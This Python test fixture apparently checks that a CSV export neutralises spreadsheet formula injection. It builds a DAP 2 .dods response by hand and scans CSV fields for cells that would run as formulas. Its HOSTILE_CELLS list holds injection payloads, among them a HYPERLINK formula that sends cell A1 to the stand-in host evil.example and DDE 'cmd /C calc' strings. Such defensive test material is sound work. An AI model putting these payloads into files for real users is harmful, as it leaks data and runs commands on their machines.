"""A DAP 2 .dods response built by hand (DDS, the Data: marker, XDR), for an
upstream that sends text cells: pydap's server cannot serve String arrays
from netCDF, so the hostile cells are written here byte by byte."""
from __future__ import annotations

import re
import struct
from typing import List, Sequence

#: Text cells a spreadsheet would run as formulas, and text that only looks like it.
HOSTILE_CELLS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "=1+1;=2+2",
)
#: Text cells with a formula after a ; or a tab, the list separators of other locales: quoted, kept.
SPLIT_CELLS = ("x;=HYPERLINK(\"http://evil.example\")", "y\t@SUM(1)")
#: Text cells that are plain numbers or plain text: never changed.
PLAIN_CELLS = ("-1.5", "+3", "-2e-3", "plain text", "a-b", "1,5", "")
ALL_CELLS = HOSTILE_CELLS + SPLIT_CELLS + PLAIN_CELLS
#: A numeric column with negative values: never changed.
VALUES = tuple(float(-i) - 0.5 for i in range(len(ALL_CELLS)))


def _xdr_string(text: str) -> bytes:
    data = text.encode("utf-8")
    return struct.pack(">I", len(data)) + data + b"\0" * (-len(data) % 4)


def dods(labels: Sequence[str] = ALL_CELLS, values: Sequence[float] = VALUES,
         label_name: str = "label") -> bytes:
    """Dataset { String label[row = n]; Float64 value[row = n]; } with these cells."""
    n = len(labels)
    assert len(values) == n
    dds = (f"Dataset {{\n    String {label_name}[row = {n}];\n    Float64 value[row = {n}];\n}} cells.nc;\n"
           ).encode("utf-8")
    body = struct.pack(">I", n) + b"".join(_xdr_string(t) for t in labels)
    body += struct.pack(">II", n, n) + b"".join(struct.pack(">d", v) for v in values)
    return dds + b"\nData:\n" + body


#: Numbers, and numbers run together by another locale's separator ("-1.5,-10.5" read with ";"):
#: at worst a spreadsheet shows an error, it runs no function and follows no link.
_NUMBERS_ONLY = re.compile(r"[-+0-9.,eE ]*\Z")


def formula_fields(text: str, separators: str = ",;\t") -> List[str]:
    """The fields of a CSV text that a spreadsheet would run as formulas, the
    file read with any of C{separators} as the list separator (quotes
    honoured): a field starting with = + - @ (after blanks), tab or CR that
    is more than numbers."""
    found = []
    for sep in separators:
        field, quoted, at_start, i = [], False, True, 0
        while i <= len(text):
            c = text[i] if i < len(text) else "\n"
            if quoted:
                if c == '"' and text[i + 1:i + 2] == '"':
                    field.append('"')
                    i += 1
                elif c == '"':
                    quoted = False
                else:
                    field.append(c)
            elif c == '"' and at_start:
                quoted = True
            elif c in (sep, "\n") or (c == "\r" and text[i + 1:i + 2] == "\n"):
                cell = "".join(field)
                lead = cell.lstrip(" ")
                if cell[:1] in ("\t", "\r") or (lead[:1] in ("=", "+", "-", "@") and not _NUMBERS_ONLY.match(lead)):
                    found.append(f"{sep!r}: {cell!r}")
                field, at_start = [], True
                if c == "\r":
                    i += 1
            else:
                field.append(c)
                at_start = False
            i += 1
    return found
